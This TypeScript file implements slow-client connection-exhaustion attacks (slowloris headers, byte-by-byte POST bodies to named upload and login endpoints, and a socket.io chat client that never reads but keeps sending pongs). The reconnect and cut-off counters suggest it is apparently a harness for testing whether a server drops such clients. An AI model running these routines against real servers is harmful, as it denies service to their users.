/** Clients that occupy connections by sending or reading extremely slowly. */
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { randomBytes } from "node:crypto";

/** Slow clients of one kind. */
export interface Crowd {
  /** Number of connections that were opened, including reconnections. */
  opened: number;
  /** Number of connections that the server ended. */
  cut: number;
  isStopping: boolean;
  stop(): void;
}

/** Keeps `count` connections open, and calls `play` for each. A client that is cut off reconnects. */
export function keepOpen(
  address: string,
  count: number,
  play: (socket: Socket, isOver: () => boolean) => Promise<void>,
): Crowd {
  const { hostname, port } = new URL(address);
  const sockets = new Set<Socket>();
  const crowd: Crowd = {
    opened: 0,
    cut: 0,
    isStopping: false,
    stop() {
      crowd.isStopping = true;
      for (const socket of sockets) socket.destroy();
    },
  };
  const one = async () => {
    while (!crowd.isStopping) {
      const socket = connect(Number(port), hostname);
      sockets.add(socket);
      socket.on("error", () => undefined);
      const closed = new Promise((resolve) => socket.once("close", resolve));
      crowd.opened += 1;
      await play(socket, () => socket.destroyed || crowd.isStopping);
      if (!socket.destroyed && !crowd.isStopping) await closed;
      sockets.delete(socket);
      if (!crowd.isStopping) crowd.cut += 1;
    }
  };
  for (let index = 0; index < count; index += 1) void one();
  return crowd;
}

/** Sends one header after another and never finishes. */
export const slowloris = (everyMs: number) => async (socket: Socket, isOver: () => boolean) => {
  socket.resume();
  socket.write("GET /apicalls/getConfigSettings HTTP/1.1\r\nHost: a\r\n");
  for (let n = 0; !isOver(); n += 1) {
    await sleep(everyMs * (0.5 + Math.random()));
    if (!isOver()) socket.write(`X-More-${n}: ${n}\r\n`);
  }
};

/** Sends bodies byte by byte, in turn to a call, an upload, a document upload, and the chat's polling. */
export function byteByByte(token: string, everyMs: number) {
  const requests = [
    ["saveRecord", "application/json", "{"],
    ["file-upload", "multipart/form-data; boundary=b", formStart("menteeUserFiles")],
    ["fileUpload", "multipart/form-data; boundary=b", formStart("menteeUserFiles")],
    ["auth/login", "application/json", "{"],
  ] as const;
  let next = 0;
  return async (socket: Socket, isOver: () => boolean) => {
    const [path, type, start] = requests[next++ % requests.length] ?? requests[0];
    socket.resume();
    socket.write(
      `POST /apicalls/${path} HTTP/1.1\r\nHost: a\r\nAuthorization: ${token}\r\nContent-Type: ${type}\r\n` +
        `Content-Length: 900000\r\n\r\n${start}`,
    );
    while (!isOver()) {
      await sleep(everyMs);
      if (!isOver()) socket.write(" ");
    }
  };
}

const formStart = (tableName: string): string =>
  [
    ["tableName", tableName],
    ["id", "0"],
    ["clientId", "6"],
  ]
    .map(([name, value]) => `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`)
    .join("") + '--b\r\nContent-Disposition: form-data; name="files"; filename="a.txt"\r\n\r\n';

/** Returns a text frame of a WebSocket client. */
function frame(text: string): Buffer {
  const body = Buffer.from(text);
  const mask = randomBytes(4);
  const head =
    body.length < 126 ? [0x81, 0x80 | body.length] : [0x81, 0xfe, body.length >> 8, body.length & 255];
  return Buffer.concat([Buffer.from(head), mask, body.map((byte, at) => byte ^ (mask[at % 4] ?? 0))]);
}

/**
 * Enters a chat room and then stops reading. Keeps sending pongs, although it doesn't see the pings, so that no ping
 * timeout ends the connection.
 * @param entered called after it has entered the room
 */
export const neverReads =
  (token: string, roomId: string, entered: () => void) => async (socket: Socket, isOver: () => boolean) => {
    socket.write(
      "GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\n" +
        "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n" +
        `Sec-WebSocket-Key: ${randomBytes(16).toString("base64")}\r\n\r\n`,
    );
    let text = "";
    const hears = async (word: string) => {
      while (!text.includes(word) && !isOver()) await sleep(10);
    };
    socket.on("data", (chunk: Buffer) => (text += chunk.toString("latin1")));
    await hears('"sid"');
    socket.write(frame("40"));
    await hears("40{");
    socket.write(frame(`42${JSON.stringify(["submitToken", { roomId, token }])}`));
    await hears('"joined"');
    if (isOver()) return;
    socket.removeAllListeners("data");
    socket.pause();
    entered();
    while (!isOver()) {
      await sleep(5000);
      if (!isOver()) socket.write(frame("3"));
    }
  };
